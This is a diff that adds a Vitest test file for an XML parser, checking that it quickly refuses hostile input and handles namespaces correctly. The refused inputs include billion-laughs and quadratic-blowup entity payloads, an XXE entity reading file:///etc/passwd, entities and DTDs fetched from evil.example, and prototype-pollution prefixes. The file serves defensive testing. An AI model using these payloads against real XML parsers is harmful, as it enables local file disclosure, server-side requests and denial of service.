@@ -1,0 +1,103 @@
+import { describe, expect, test } from 'vitest'
+import { findAll, readXml } from '../../../main/protocol/xml.ts'
+
+const codeOf = (xml: string): string => {
+  try {
+    readXml(xml)
+    return 'read'
+  } catch (error) {
+    return (error as { code?: string }).code ?? String(error)
+  }
+}
+const laughs = (of: (level: number) => string) =>
+  Array.from({ length: 10 }, (_, level) => `<!ENTITY l${level + 1} "${of(level)}">`).join('')
+
+describe('XML from strangers', () => {
+  test.each([
+    [
+      'a billion laughs',
+      `<!DOCTYPE x [<!ENTITY l0 "ha">${laughs((n) => `&l${n};`.repeat(10))}]><x>&l10;</x>`,
+      'doctype-refused',
+    ],
+    [
+      'quadratic blow-up',
+      `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(50_000)}">]><x>${'&a;'.repeat(50_000)}</x>`,
+      'doctype-refused',
+    ],
+    [
+      'an external entity',
+      '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>',
+      'doctype-refused',
+    ],
+    [
+      'a parameter entity',
+      '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x"> %p;]><x/>',
+      'doctype-refused',
+    ],
+    ['an external document type', '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>', 'doctype-refused'],
+    ['an entity that nobody declared', '<x>&nbsp;</x>', 'not-xml'],
+    ['10,000 levels', '<a>'.repeat(10_000) + '</a>'.repeat(10_000), 'too-deep'],
+    ['10,000 levels with a namespace each', '<a xmlns:b="urn:b">'.repeat(10_000), 'too-deep'],
+    [
+      '20,000 attributes',
+      `<x ${Array.from({ length: 20_000 }, (_, at) => `a${at}="1"`).join(' ')}/>`,
+      'too-many-attributes',
+    ],
+    ['50 MB', `<x>${'x'.repeat(50 * 1024 * 1024)}</x>`, 'too-long'],
+    ['an attribute twice', '<x a="1" a="2"/>', 'not-xml'],
+    ['an attribute twice by two prefixes', '<x xmlns:a="urn:u" xmlns:b="urn:u" a:y="1" b:y="2"/>', 'not-xml'],
+    ['a prefix that nobody declared', '<a:x/>', 'not-xml'],
+    ['a prefix that every JavaScript object has', '<constructor:x/>', 'not-xml'],
+    ['a prefix bound to nothing', '<a:x xmlns:a=""/>', 'not-xml'],
+    ['the prefix xml bound to something else', '<x xmlns:xml="urn:x"/>', 'not-xml'],
+    ['a name with two colons', '<a:b:c xmlns:a="urn:a"/>', 'not-xml'],
+    ['two roots', '<a/><b/>', 'not-xml'],
+    ['text after the root', '<a/>text', 'not-xml'],
+    ['nothing', '', 'not-xml'],
+    ['a tag that is not closed', '<a><b></a>', 'not-xml'],
+  ])('%s is refused, and soon', (_what, xml, code) => {
+    const started = performance.now()
+    expect(codeOf(xml)).toBe(code)
+    expect(performance.now() - started).toBeLessThan(1000)
+  })
+
+  test('an element is found by namespace, whatever its prefix', () => {
+    const root = readXml(
+      '<r><a:x xmlns:a="urn:1">one</a:x><x xmlns="urn:1">two</x><x xmlns="urn:2">three</x></r>',
+    )
+    expect(findAll(root, 'urn:1', 'x').map(({ text }) => text)).toEqual(['one', 'two'])
+  })
+
+  test('a namespace may be called as what every object has, and a default one be taken back', () => {
+    const root = readXml('<r xmlns="urn:d" xmlns:__proto__="urn:p"><__proto__:x/><y xmlns=""/></r>')
+    expect(root.children.map(({ uri, local }) => [uri, local])).toEqual([
+      ['urn:p', 'x'],
+      ['', 'y'],
+    ])
+  })
+
+  test('character references and CDATA are text; comments and instructions are not', () => {
+    expect(readXml('<r>&#70;&#x65;<![CDATA[<d>]]><!-- no --><?no no?>&amp;</r>').text).toBe('Fe<d>&')
+  })
+
+  test('what is left out is checked for its form all the same, and what stands after it is kept', () => {
+    const without = (_uri: string, local: string) => local === 'skip'
+    const root = readXml('<r><skip><deep/>text</skip><kept>k</kept></r>', { without })
+    expect(root.children.map(({ local, text }) => [local, text])).toEqual([['kept', 'k']])
+    expect(root.text).toBe('')
+    expect(() => readXml('<r><skip><deep></skip></r>', { without })).toThrow()
+  })
+
+  test('where an element stands is told, so that it can be cut out byte for byte', () => {
+    const source = '\uFEFF<r> <a  b="1">x<c/></a>\n</r>'
+    const [a] = readXml(source).children
+    expect(source.replace('\uFEFF', '').slice(a?.start, a?.end)).toBe('<a  b="1">x<c/></a>')
+  })
+
+  test('a type is resolved where it stands', () => {
+    const root = readXml(
+      '<r xmlns:i="http://www.w3.org/2001/XMLSchema-instance"><x xmlns:p="urn:p" i:type="p:T"/><x xmlns="urn:d" i:type="T"/></r>',
+    )
+    expect(root.children.map(({ type }) => type)).toEqual(['{urn:p}T', '{urn:d}T'])
+  })
+})
